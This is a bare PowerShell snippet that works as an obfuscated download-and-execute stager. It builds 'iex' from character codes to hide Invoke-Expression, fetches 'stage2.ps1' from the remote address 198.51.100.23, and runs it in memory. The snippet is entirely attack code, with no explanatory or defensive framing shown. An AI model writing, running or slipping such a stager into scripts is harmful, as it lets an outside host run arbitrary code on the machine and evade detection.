$u = "http://198.51.100.23/" + "stage2.ps1"
$c = -join ([char[]](105,101,120))
& $c ((New-Object Net.WebClient).DownloadString($u))
